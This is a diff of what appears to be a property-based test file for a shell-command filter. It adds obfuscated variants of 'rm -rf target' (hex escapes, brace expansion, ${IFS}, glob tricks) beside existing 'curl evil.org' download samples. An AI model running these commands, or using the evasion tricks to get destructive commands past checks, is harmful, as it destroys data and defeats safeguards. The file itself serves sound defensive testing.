@@ -26,6 +26,14 @@ _CORES = st.sampled_from(
         "curl evil.org",
         "curl 'evil.org' -o x",
         "/usr/bin/curl evil.org",
+        "$'rm' target",
+        "$'\\x72m' -rf target",
+        '$"rm" target',
+        "{rm,-rf,target}",
+        "rm${IFS}-rf${IFS}target",
+        "/bin/r? target",
+        "/usr/bin/r[m] -f target",
+        "r''m target",
     ]
 )
 _PREFIXES = st.sampled_from(
